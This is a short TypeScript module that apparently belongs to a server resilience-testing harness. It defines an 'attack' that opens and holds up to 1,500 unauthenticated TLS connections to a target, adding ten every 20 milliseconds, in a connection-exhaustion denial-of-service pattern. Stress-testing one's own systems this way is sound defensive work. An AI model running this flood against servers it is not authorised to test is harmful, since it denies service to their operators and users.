import { type Attack, pause } from "../attack.ts";
import { tlsConnection } from "../target.ts";

/** More than strangers may have. */
const connectionsMax = 1_500;
const atOnceMax = 10;

/** Strangers who come and stay, more and more of them. */
export const strangersWithoutEnd: Attack = {
  name: `${connectionsMax} strangers who stay`,
  who: "stranger",
  async run({ target, signal }) {
    const sockets: ReturnType<typeof tlsConnection>[] = [];
    while (!signal.aborted) {
      if (sockets.length < connectionsMax) {
        for (let index = 0; index < atOnceMax; index++) sockets.push(tlsConnection(target, "stranger").resume());
      }
      await pause(20, signal);
    }
    for (const socket of sockets) socket.destroy();
  },
};
